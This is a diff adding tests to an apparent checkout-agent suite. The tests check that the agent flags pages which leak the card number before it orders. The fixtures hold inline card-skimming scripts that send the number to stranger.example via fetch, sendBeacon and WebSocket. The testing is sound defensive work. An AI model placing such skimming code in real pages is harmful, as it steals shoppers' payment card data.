@@ -276,6 +276,50 @@ describe.concurrent("a page that sends the card by itself", { timeout: 120_000 }
   });
 });
 
+describe.concurrent("a page that sends the card's number to a stranger", { timeout: 120_000 }, () => {
+  const pagesWith = (script: string) => ({
+    "/checkout": `<h1>Checkout</h1><form method="post" action="/order">${addressFields}<p>Total $80.00</p>
+      <label>Card number <input name="number"></label><label>Expiry <input name="expiry" placeholder="MM/YY"></label>
+      <label>CVC <input name="cvc"></label><button>Place order</button></form>
+      <script>document.querySelector("[name=number]").addEventListener("change", ({ target: { value } }) => { ${script} })</script>`,
+  });
+
+  it.each([
+    ["by a request", "fetch('http://stranger.example/?' + value, { mode: 'no-cors' })"],
+    ["by a beacon", "navigator.sendBeacon('http://stranger.example/', value)"],
+    ["in the address of a socket", "new WebSocket('ws://stranger.example/' + value.replace(/\\D/g, ''))"],
+  ])("%s is not pressed on before a person was told", async (_how, script) => {
+    const answers = { card: [goodCard], confirm: [{ confirmed: "no" }] };
+    const { outcome, host, shop } = await checkOutFromPages(pool, pagesWith(script), { answers });
+
+    expect(host.questions.at(-1)).toMatchObject({
+      key: "confirm",
+      message: expect.stringContaining("sent the number of the card to stranger.example"),
+    });
+    expect(outcome).toMatchObject({ status: "failed" });
+    expect(shop.orders).toHaveLength(0);
+  });
+
+  it("as it is sent is told with the receipt", async () => {
+    const script =
+      "document.forms[0].onsubmit = () => { navigator.sendBeacon('http://stranger.example/', value) }";
+    const { outcome, host } = await checkOutFromPages(pool, pagesWith(script), {
+      answers: { card: [goodCard] },
+    });
+
+    expect(outcome).toMatchObject({ status: "succeeded" });
+    expect(host.steps.at(-1)?.label).toContain("sent the number of the card to stranger.example");
+  });
+
+  it("is not asked about where the shop itself gets it", async () => {
+    const answers = { card: [goodCard] };
+    const pages = pagesWith("fetch('/cards', { method: 'POST', body: value })");
+    const { outcome } = await checkOutFromPages(pool, pages, { answers });
+
+    expect(outcome).toMatchObject({ status: "succeeded" });
+  });
+});
+
 it("a shop that confirms an order when the item is added is not led to its checkout, and no order is denied", async () => {
   const pages = {
     ...productAndBasket,
